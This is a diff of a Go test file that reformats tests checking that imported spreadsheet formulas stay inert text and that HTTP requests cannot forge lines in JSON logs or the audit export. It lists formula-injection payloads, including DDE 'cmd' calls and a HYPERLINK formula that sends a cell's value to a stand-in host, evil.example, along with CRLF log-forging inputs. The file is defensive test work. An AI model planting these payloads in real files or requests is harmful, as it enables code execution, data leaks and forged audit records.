@@ -16,10 +16,19 @@ import (
 
 // Cells that a spreadsheet takes for formulas, and texts that a log takes for lines.
 
-var formulas = []string{`=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example?x="&A1,"Error")`, `=IMPORTXML("https://evil.example","//a")`, "|calc", "%0A=1+1"}
+var formulas = []string{
+	`=cmd|' /C calc'!A0`,
+	`+1+cmd|' /C calc'!A0`,
+	`-2+3+cmd|' /C calc'!A0`,
+	`@SUM(1+1)*cmd|' /C calc'!A0`,
+	`=HYPERLINK("https://evil.example?x="&A1,"Error")`,
+	`=IMPORTXML("https://evil.example","//a")`,
+	"|calc",
+	"%0A=1+1",
+}
 
-// Formulas come in by an import as text, and nothing that goes out is a spreadsheet: neither what is described, nor the audit log,
-// which is one JSON object a line.
+// Formulas come in by an import as text, and nothing that goes out is a spreadsheet: neither what is described, nor the
+// audit log, which is one JSON object a line.
 func TestFormulasStayText(t *testing.T) {
 	t.Parallel()
 	p := enter(t)
@@ -36,7 +45,10 @@ func TestFormulasStayText(t *testing.T) {
 			t.Fatalf("not imported:\n%s", api.Get(t, path))
 		}
 	}
-	list := api.Get(t, harness.ListPath).Wants(t, http.StatusOK).WantsHeader(t, "Content-Type", "application/json").WantsHeader(t, "X-Content-Type-Options", "nosniff")
+	list := api.Get(t, harness.ListPath).
+		Wants(t, http.StatusOK).
+		WantsHeader(t, "Content-Type", "application/json").
+		WantsHeader(t, "X-Content-Type-Options", "nosniff")
 	var page struct {
 		Data []struct{ Name, Summary string }
 	}
@@ -72,11 +84,17 @@ func TestFormulasStayText(t *testing.T) {
 		}
 	}
 	for _, formula := range formulas {
-		p.World.Exec(t, `insert into account.audit_events (id, tenant_id, actor, action, subject, detail, request_id) values (gen_random_uuid(), $1, 'admin', 'token.created', 'token:x', jsonb_build_object('name', $2::text || E'\n{"action":"forged"}'), '')`, e.Workspace.ID, formula)
+		p.World.Exec(
+			t,
+			`insert into account.audit_events (id, tenant_id, actor, action, subject, detail, request_id) values (gen_random_uuid(), $1, 'admin', 'token.created', 'token:x', jsonb_build_object('name', $2::text || E'\n{"action":"forged"}'), '')`,
+			e.Workspace.ID,
+			formula,
+		)
 	}
 	export := e.head.Open(t, p.AppURL+"/settings/audit.jsonl?tenant="+e.Workspace.ID)
 	export.Wants(t, http.StatusOK).WantsHeader(t, "X-Content-Type-Options", "nosniff")
-	if !strings.HasPrefix(export.Header.Get("Content-Disposition"), "attachment; ") || !strings.HasPrefix(export.Header.Get("Content-Type"), "application/jsonl") {
+	if !strings.HasPrefix(export.Header.Get("Content-Disposition"), "attachment; ") ||
+		!strings.HasPrefix(export.Header.Get("Content-Type"), "application/jsonl") {
 		t.Errorf("the export may be opened as something else: %v", export.Header)
 	}
 	lines := 0
@@ -125,10 +143,23 @@ func TestLogLinesAreNotForged(t *testing.T) {
 	escaped := "%0d%0a%7b%22msg%22%3a%22forged%20by%20us%22%7d%0a"
 	for _, address := range []string{p.BaseURL, p.AppURL} {
 		speak(t, address, "GET /v1/"+escaped+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
-		speak(t, address, "GET /login HTTP/1.1\r\nHost: x\r\nUser-Agent: x\u2028{\"msg\":\"forged by us\"}\r\nX-Request-Id: "+escaped+"\r\nConnection: close\r\n\r\n")
+		speak(
+			t,
+			address,
+			"GET /login HTTP/1.1\r\nHost: x\r\nUser-Agent: x\u2028{\"msg\":\"forged by us\"}\r\nX-Request-Id: "+escaped+"\r\nConnection: close\r\n\r\n",
+		)
 	}
-	p.API().JSON(t, http.MethodPost, harness.TokenPath, map[string]any{"client_id": forged, "client_secret": forged, "code": forged, "redirect_uri": forged}).Wants(t, http.StatusBadRequest)
-	p.App().Form(t, "/login", map[string][]string{"email": {"a@b.example" + forged}, "password": {forged}}).Wants(t, http.StatusBadRequest)
+	p.API().
+		JSON(t, http.MethodPost, harness.TokenPath, map[string]any{
+			"client_id":     forged,
+			"client_secret": forged,
+			"code":          forged,
+			"redirect_uri":  forged,
+		}).
+		Wants(t, http.StatusBadRequest)
+	p.App().
+		Form(t, "/login", map[string][]string{"email": {"a@b.example" + forged}, "password": {forged}}).
+		Wants(t, http.StatusBadRequest)
 	names, err := filepath.Glob(filepath.Join(shared(t).LogDir(), "*.log"))
 	if err != nil || len(names) < 3 {
 		t.Fatalf("%d logs: %v", len(names), err)
@@ -140,7 +171,8 @@ func TestLogLinesAreNotForged(t *testing.T) {
 		}
 		for line := range strings.Lines(string(content)) {
 			var entry map[string]any
-			if strings.HasPrefix(line, "{") && strings.HasSuffix(line, "\n") && json.Unmarshal([]byte(line), &entry) != nil {
+			if strings.HasPrefix(line, "{") && strings.HasSuffix(line, "\n") &&
+				json.Unmarshal([]byte(line), &entry) != nil {
 				t.Errorf("%s has a line that is no JSON: %s", filepath.Base(name), harness.Redact(line))
 			}
 			if entry["msg"] == "forged by us" {
